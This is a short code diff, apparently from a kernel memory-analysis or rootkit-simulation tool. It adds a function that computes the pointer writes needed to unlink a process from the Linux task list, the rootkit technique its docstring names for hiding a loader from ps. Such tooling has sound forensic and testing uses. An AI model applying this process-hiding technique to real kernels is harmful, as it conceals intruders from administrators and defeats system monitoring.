@@ -103,3 +103,18 @@ def hide_programs(kctx, prog_ids):
             words[node + next_off] = nxt
             words[nxt + prev_off] = node
     return words
+
+
+def unlink_task(kctx, pid):
+    """{address: value} taking process ``pid`` off ``init_task.tasks`` (its neighbours'
+    ``next``/``prev`` past it, as a rootkit hiding its loader from ``ps`` does)."""
+    reader, layout = kctx.reader, kctx.layout
+    head = kctx.symbol("init_task") + layout.offset("task_struct", "tasks")
+    off = layout.offset("task_struct", "tasks")
+    f_tgid = layout.offset("task_struct", "tgid")
+    for node in list_nodes(reader, layout, head):
+        if reader.u32(node - off + f_tgid) == pid:
+            nxt = reader.ptr(node + layout.offset("list_head", "next"))
+            prv = reader.ptr(node + layout.offset("list_head", "prev"))
+            return {prv + layout.offset("list_head", "next"): nxt, nxt + layout.offset("list_head", "prev"): prv}
+    raise LookupError(f"pid {pid} is not on init_task.tasks")
